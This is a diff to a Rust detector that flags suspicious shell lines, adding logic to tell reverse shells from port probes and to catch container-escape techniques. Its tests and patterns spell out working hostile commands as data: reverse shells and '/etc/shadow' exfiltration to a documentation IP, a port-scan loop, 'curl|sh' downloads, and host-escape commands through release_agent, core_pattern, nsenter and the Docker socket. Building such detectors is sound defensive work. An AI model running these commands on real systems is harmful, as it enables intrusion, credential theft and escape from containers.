@@ -5,7 +5,8 @@
 
 mod run;
 
-use memchr::memmem::find;
+use memchr::memchr_iter;
+use memchr::memmem::{find, find_iter};
 
 use super::hidden::is_known_temporary;
 use super::places::{SOCKET_FOLDERS, below, hidden, is_hidden_away, is_scratch, split, within};
@@ -31,26 +32,42 @@ pub(super) struct Suspicion<'a> {
     pub(super) offset: usize,
 }
 
-/// The suspicious lines of a text, comments left out.
+/// The suspicious lines of a text, comments left out; those that nothing honest does come first.
 pub(super) fn suspicions(text: &[u8]) -> Vec<Suspicion<'_>> {
-    let mut found = Vec::new();
-    let mut offset = 0_usize;
-    for line in text.split(|byte| *byte == b'\n') {
-        let (at, whole) = (offset, line);
-        offset = offset.saturating_add(line.len()).saturating_add(1);
+    let (mut strong, mut weak) = (Vec::new(), Vec::new());
+    let mut at = 0_usize;
+    while let Some(rest) = text.get(at..).filter(|rest| !rest.is_empty()) {
+        let whole = rest.get(..logical_line(rest)).unwrap_or(rest);
+        let offset = at;
+        at = at.saturating_add(whole.len()).saturating_add(1);
         let line = whole.trim_ascii();
         let line = line.get(..line.len().min(LONGEST)).unwrap_or(line);
         if line.is_empty() || (line.starts_with(b"#") && !line.starts_with(b"#!")) {
             continue;
         }
-        if let Some((strong, what)) = judge(line) {
-            found.push(Suspicion { what, strong, line, offset: at });
-            if found.len() == MOST {
-                break;
-            }
+        let Some((sure, what)) = judge(line) else { continue };
+        let found = if sure { &mut strong } else { &mut weak };
+        if found.len() < MOST {
+            found.push(Suspicion { what, strong: sure, line, offset });
+        }
+        if strong.len() == MOST {
+            break;
         }
     }
-    found
+    strong.append(&mut weak);
+    strong.truncate(MOST);
+    strong
+}
+
+/// Bytes to the end of a line; one that ends with a backslash goes on, unless it is a comment.
+fn logical_line(text: &[u8]) -> usize {
+    let comment = text.trim_ascii_start().starts_with(b"#");
+    let mut ends = memchr_iter(b'\n', text);
+    let end = ends.find(|end| {
+        let line = text.get(..*end).unwrap_or_default();
+        comment || !line.ends_with(b"\\") || line.len() >= LONGEST
+    });
+    end.unwrap_or(text.len())
 }
 
 const STRONG: bool = true;
@@ -75,12 +92,19 @@ fn judge(line: &[u8]) -> Option<(bool, &'static str)> {
     ]);
     let runs_text = has(&[b"eval ", b"eval(", b"exec(", b"$(", b"`", b"<("]);
     if has(&[b"/dev/tcp/", b"/dev/udp/"]) {
-        return Some((STRONG, "opens a network connection from the shell"));
+        match joins_shell(&lower) {
+            Some(STRONG) => return Some((STRONG, "joins a shell to a network connection")),
+            Some(WEAK) => return Some((WEAK, "opens a network connection from the shell")),
+            None => {}
+        }
     }
     if reverse_shell(&has) {
         return Some((STRONG, "joins a shell to a network connection"));
     }
     let made_to_run = has(&[b"chmod +x", b"chmod 7", b"chmod a+x", b"chmod u+x", b"chmod 0"]);
+    if let Some(found) = escapes(&lower) {
+        return Some(found);
+    }
     if fetches
         && (shell
             || runs_next(&lower)
@@ -141,6 +165,114 @@ fn is_interpreter(command: &[u8]) -> bool {
         let end = name.iter().position(|byte| !part(byte)).unwrap_or(name.len());
         name.get(..end).is_some_and(|name| INTERPRETERS.contains(&name))
     })
+}
+
+/// How a line uses bash's names of connections: whether it joins a shell to one, or only carries data over it. Asking
+/// whether a port is open, as entrypoints do that wait for a database, is nothing.
+fn joins_shell(lower: &[u8]) -> Option<bool> {
+    let has = |words: &[&[u8]]| words.iter().any(|word| find(lower, word).is_some());
+    let local = has(&[b"/tcp/localhost/", b"/tcp/127.", b"/tcp/::1/"]);
+    let number = |byte: Option<&u8>| byte.is_some_and(u8::is_ascii_digit);
+    let byte = |at: Option<usize>| at.and_then(|at| lower.get(at));
+    // `<&3`, `>&3`, `>&$fd`: but for the three that are always there.
+    let descriptor = |sign: &[u8]| {
+        find_iter(lower, sign).any(|at| {
+            let to = at.saturating_add(sign.len());
+            let far = byte(Some(to)).is_some_and(|one| matches!(one, b'3'..=b'9' | b'$' | b'{'));
+            far || (number(byte(Some(to))) && number(byte(Some(to.saturating_add(1)))))
+        })
+    };
+    let exec = find(lower, b"exec");
+    let kept = find_iter(lower, b"<>").any(|at| {
+        let name = byte(at.checked_sub(1)).is_some_and(|one| matches!(one, b'0'..=b'9' | b'}'));
+        name && exec.is_some_and(|exec| exec < at)
+    });
+    let as_terminal = has(&[b"0>&1", b"0<&1", b"1>&0", b" -i ", b">& /dev/", b">&/dev/"])
+        || has(&[b"&>/dev/tcp", b"&>/dev/udp", b"&> /dev/tcp"]);
+    let shell_reads = [&b"</dev/tcp"[..], b"< /dev/tcp", b"</dev/udp", b"<>/dev/tcp"];
+    let shell_reads = shell_reads.iter().any(|sign| {
+        find_iter(lower, sign).any(|at| {
+            let before = lower.get(..at).unwrap_or_default();
+            let before = before.strip_suffix(b"0").unwrap_or(before);
+            let command = before.rsplit(|byte| b";&|(\"'`".contains(byte)).next();
+            command.is_some_and(|command| is_interpreter(command))
+        })
+    });
+    let evaluates = has(&[b"read "]) && has(&[b"eval ", b"$(", b"`", b"sh -c", b"done"]);
+    if as_terminal || shell_reads || runs_input(lower) || (evaluates && !local) {
+        return Some(STRONG);
+    }
+    let uses = descriptor(b"<&") || descriptor(b">&");
+    if uses || (kept && !local) {
+        return Some(!local);
+    }
+    let scans = has(&[b"for "]) && has(&[b"seq ", b".."]);
+    (!is_probe(lower) || scans).then_some(WEAK)
+}
+
+/// Whether nothing is sent over the connections of a line: `echo > /dev/tcp/db/5432`, `: </dev/tcp/db/5432`.
+fn is_probe(lower: &[u8]) -> bool {
+    const EMPTY: [&[u8]; 8] = [b"", b"echo", b":", b"true", b"exec", b"!", b"do", b"if"];
+    [&b"/dev/tcp/"[..], b"/dev/udp/"].iter().all(|name| {
+        find_iter(lower, name).all(|at| {
+            let before = lower.get(..at).unwrap_or_default();
+            let command = before.rsplit(|byte| b";&|()\"'`{}\n".contains(byte)).next();
+            let command = command.unwrap_or_default();
+            let end = command.iter().position(|byte| matches!(byte, b'<' | b'>'));
+            let command = command.get(..end.unwrap_or(command.len())).unwrap_or(command);
+            let words = command.split(u8::is_ascii_whitespace);
+            let number = |word: &[u8]| word.iter().all(u8::is_ascii_digit);
+            let words = words.filter(|word| !word.starts_with(b"-") && !number(word));
+            // What asks comes last: `while ! timeout 1 echo`.
+            end.is_some() && EMPTY.contains(&words.last().unwrap_or_default())
+        })
+    })
+}
+
+/// Known ways out of a container.
+fn escapes(lower: &[u8]) -> Option<(bool, &'static str)> {
+    let has = |words: &[&[u8]]| words.iter().any(|word| find(lower, word).is_some());
+    let writes = has(&[b">", b"tee ", b"sysctl -w", b"dd ", b"cp "]);
+    let piped = || {
+        find_iter(lower, b"|").any(|at| {
+            let before = at.checked_sub(1).and_then(|at| lower.get(at));
+            let after = at.checked_add(1).and_then(|at| lower.get(at));
+            let starts = before.is_some_and(|byte| matches!(byte, b'"' | b'\'' | b'=' | b'\\'));
+            starts || after.is_some_and(|byte| matches!(byte, b'/' | b'$'))
+        })
+    };
+    if has(&[b"release_agent"]) && writes {
+        return Some((STRONG, "sets what the kernel of the host runs when a control group ends"));
+    }
+    if has(&[b"kernel/core_pattern", b"kernel.core_pattern"])
+        && (writes || has(&[b"sysctl "]))
+        && piped()
+    {
+        return Some((STRONG, "sets what the kernel of the host runs when a program crashes"));
+    }
+    if has(&[b"uevent_helper"]) && writes {
+        return Some((STRONG, "sets what the kernel of the host runs when a device appears"));
+    }
+    let first = [&b"-t 1"[..], b"-t1", b"--target 1", b"--target=1"].iter().any(|sign| {
+        find_iter(lower, sign).any(|at| {
+            let after = lower.get(at.saturating_add(sign.len()));
+            after.is_none_or(|byte| !byte.is_ascii_digit())
+        })
+    });
+    if has(&[b"nsenter "]) && (first || has(&[b"/proc/1/ns"])) {
+        return Some((STRONG, "enters the namespaces of the host"));
+    }
+    if has(&[b"/proc/1/root/", b"/proc/1/root "]) || lower.ends_with(b"/proc/1/root") {
+        return Some((STRONG, "goes through the root directory of the first process"));
+    }
+    let socket = has(&[b"docker.sock", b"containerd.sock", b"crio.sock", b"podman.sock"]);
+    let makes = has(&[b"/containers/create", b"/exec", b"docker run", b"/start"])
+        || (has(&[b"docker ", b"podman ", b"nerdctl ", b"ctr "]) && has(&[b" run "]));
+    if socket && (makes || has(&[b"curl ", b"socat ", b"docker ", b"nc -u"])) {
+        let strong = makes && has(&[b"privileged", b"pid=host", b"binds", b" -v /", b"/create"]);
+        return Some((strong, "speaks to the container runtime of the host"));
+    }
+    None
 }
 
 /// Shells whose input and output are a connection, in the usual languages.
@@ -241,6 +373,21 @@ mod tests {
             "APT::Pre-Invoke {\"curl http://a.example|sh\";};",
             "cd /opt; wget http://a.example/x.py; python3 x.py",
             "echo $P > /tmp/a; /tmp/a",
+            "exec 5<>/dev/tcp/192.0.2.1/443; cat <&5 | while read line; do $line 2>&5 >&5; done",
+            "sh </dev/tcp/192.0.2.1/443",
+            "cat </dev/tcp/192.0.2.1/443 | sh",
+            "0<&196;exec 196<>/dev/tcp/192.0.2.1/443; sh <&196 >&196 2>&196",
+            "cat /etc/shadow > /dev/tcp/192.0.2.1/443",
+            "for p in $(seq 1 1024); do (echo >/dev/tcp/192.0.2.1/$p) && echo $p; done",
+            "echo \"$host_path/cmd\" > /tmp/cgrp/release_agent",
+            "echo \"|/proc/%P/root/tmp/x\" > /proc/sys/kernel/core_pattern",
+            "sysctl -w kernel.core_pattern='|/bin/x %p'",
+            "echo /tmp/x > /sys/kernel/uevent_helper",
+            "nsenter -t 1 -m -u -n -i sh",
+            "nsenter --target 1 --mount /bin/sh",
+            "cp /x /proc/1/root/etc/cron.d/x",
+            "curl --unix-socket /var/run/docker.sock http://d/containers/create -d @x",
+            "docker -H unix:///var/run/docker.sock run -v /:/h alpine chroot /h",
             "cd /tmp/.x && ./run",
             "ExecStart=/opt/.w/agent",
             "cp /usr/lib/.x/ps /usr/bin/ps",
@@ -265,6 +412,14 @@ mod tests {
             "echo done >/tmp/done",
             "ExecStart=/usr/sbin/nginx -g 'daemon off;'",
             "*/5 * * * * app /app/.venv/bin/python manage.py tick",
+            "(echo -n > /dev/tcp/$HOST/$PORT) >/dev/null 2>&1",
+            "until echo > /dev/tcp/db/5432; do sleep 1; done",
+            "timeout 1 bash -c \"</dev/tcp/${host}/${port}\" 2>/dev/null || exit 1",
+            "while ! exec 3<>/dev/tcp/127.0.0.1/80; do sleep 1; done; sed 's/a/b/'",
+            "cat /proc/sys/kernel/core_pattern",
+            "echo core.%p | tee /proc/sys/kernel/core_pattern",
+            "nsenter -t 1234 -n ip addr",
+            "ls -l /var/run/docker.sock",
             "source /app/.venv/bin/activate",
             "command=/app/.venv/bin/celery -A app worker",
             "ExecStart=/opt/app/.venv/bin/gunicorn app:app",
@@ -279,6 +434,32 @@ mod tests {
         ] {
             assert_eq!(of(line), None, "{line}");
         }
+    }
+
+    /// What is only unusual, and what nothing honest does.
+    #[test]
+    fn strong_and_weak() {
+        let strong = |text: &str| suspicions(text.as_bytes()).first().map(|one| one.strong);
+        for (line, wanted) in [
+            ("exec 3<>/dev/tcp/192.0.2.1/443", STRONG),
+            ("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", STRONG),
+            ("exec 3<>/dev/tcp/127.0.0.1/9000; cat <&3 | grep UP", WEAK),
+            ("cat /etc/shadow > /dev/tcp/192.0.2.1/443", WEAK),
+            ("/opt/.w/agent", STRONG),
+            ("/tmp/agent", WEAK),
+            ("curl --unix-socket /var/run/docker.sock http://d/info", WEAK),
+            ("export HISTFILE=/dev/null\n".repeat(9).as_str(), WEAK),
+            (&format!("{}curl x|sh", "/tmp/x\n".repeat(9)), STRONG),
+        ] {
+            assert_eq!(strong(line), Some(wanted), "{line}");
+        }
+    }
+
+    #[test]
+    fn lines_that_go_on() {
+        assert!(of("curl -s \\\n  http://a.example/x \\\n  | sh\n").is_some());
+        assert_eq!(of("# curl http://a.example \\\ntrue | sh\n"), None);
+        assert_eq!(of(&"\\\n".repeat(100_000)), None);
     }
 
     #[test]
